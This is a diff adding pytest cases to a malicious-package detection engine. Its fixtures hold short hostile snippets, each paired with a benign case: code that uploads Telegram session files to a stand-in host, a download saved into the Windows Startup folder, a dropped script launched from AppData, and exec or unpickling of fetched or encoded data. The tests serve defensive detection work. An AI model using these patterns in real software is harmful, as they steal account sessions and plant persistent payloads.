@@ -8,6 +8,7 @@ import pytest
 from tests.analysis.builders import npm_tarball, run_rule, sdist
 from threatfeed.analysis import Engine
 from threatfeed.analysis.rules.base import Rule
+from threatfeed.analysis.rules.obfuscation import obfuscated_code_rule
 from threatfeed.analysis.rules.signature_rules import (
     credential_harvesting_rule,
     decode_and_execute_rule,
@@ -32,6 +33,22 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "import urllib.request\nwith urllib.request.urlopen(u) as r:\n    exec(r.read())\n",
         "with open('tidy_strings/version.py') as fp:\n    exec(fp.read())\n"
         "ret = context.eval(sys.stdin.read())\n",
+    ),
+    (
+        decode_and_execute_rule,
+        "state.py",
+        "import pickle, zlib\nstate = pickle.loads(zlib.decompress(b'x\\x9c\\xcb\\x48'))\n",
+        "import pickle\nwith open(path, 'rb') as f:\n    state = pickle.loads(f.read())\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
+        "win_drop.py",
+        "from os import environ, startfile\n"
+        "open(environ['appdata'] + '\\\\w.pyw', 'w').write(src)\n"
+        "startfile(environ['appdata'] + '\\\\w.pyw')\n",
+        "from os import environ, startfile\n"
+        "open(environ['appdata'] + '\\\\report.html', 'w').write(src)\n"
+        "startfile(environ['appdata'] + '\\\\report.html')\n",
     ),
     (
         executes_code_at_remote_url_rule,
@@ -428,3 +445,73 @@ def test_developer_scripts_in_the_manifest_are_not_install_code(engine: Engine) 
     found = executes_code_at_remote_url_rule(package(engine, hook))
     assert found is not None
     assert {s.context for s in found.signals} == {"install"}
+
+
+SESSION_SEARCH = (
+    "import os, requests\n\ndef sync(folder):\n"
+    "    for name in os.listdir(folder):\n"
+    "        if name.endswith('.session'):\n"
+)
+
+
+def test_telegram_sessions_found_and_uploaded_flag(engine: Engine) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/backup.py": SESSION_SEARCH
+            + "            with open(os.path.join(folder, name), 'rb') as f:\n"
+            "                requests.post('https://files.example.net/up', files={'f': f})\n"
+        }
+    )
+    evidence = run_rule(engine, credential_harvesting_rule, archive)
+    assert "uploads the Telegram session files it finds" in evidence[0]["signatures"]
+    assert engine.analyze(archive).flagged
+
+
+def test_telegram_sessions_listed_by_a_client_are_not_uploads(engine: Engine) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/accounts.py": SESSION_SEARCH
+            + "            print(name, requests.get('https://status.example.net').status_code)\n"
+        }
+    )
+    evidence = run_rule(engine, credential_harvesting_rule, archive)
+    assert evidence[0]["signatures"] == ["searches folders for Telegram client session files"]
+    assert not engine.analyze(archive).flagged
+
+
+def test_marshal_of_an_embedded_base64_blob_is_obfuscation(engine: Engine) -> None:
+    label = "unmarshals an embedded base64 blob (compiled code or tables kept unreadable)"
+    blob = (
+        "import base64, marshal\nt = marshal.loads(base64.b64decode('2x4AAAD1BAAAAPCfmID1BAAA'))\n"
+    )
+    local = "import marshal\nwith open(path, 'rb') as f:\n    t = marshal.loads(f.read())\n"
+    found = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/t.py": blob}))
+    assert label in found[0]["techniques"]
+    assert run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/t.py": local})) is None
+
+
+STARTUP = (
+    "os.path.expanduser("
+    "'~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup')"
+)
+
+
+def test_download_saved_into_the_startup_folder_flags(engine: Engine) -> None:
+    code = (
+        f"import os, requests\nd = {STARTUP}\nr = requests.get(url)\n"
+        "with open(os.path.join(d, 'a.pyw'), 'wb') as f:\n    f.write(r.content)\n"
+    )
+    archive = sdist({"tidy_strings/fetch.py": code})
+    evidence = run_rule(engine, persistence_rule, archive)
+    assert any("saves a download" in label for label in evidence[0]["signatures"])
+    assert engine.analyze(archive).flagged
+
+
+def test_an_app_registering_itself_at_logon_is_no_download_drop(engine: Engine) -> None:
+    code = (
+        f"import os, shutil, requests\nd = {STARTUP}\n"
+        "shutil.copy(sys.executable, os.path.join(d, 'app.exe'))\n"
+        "print(requests.get('https://updates.example.net/latest').json())\n"
+    )
+    evidence = run_rule(engine, persistence_rule, sdist({"tidy_strings/autostart.py": code}))
+    assert evidence[0]["signatures"] == ["installs itself to run at logon"]
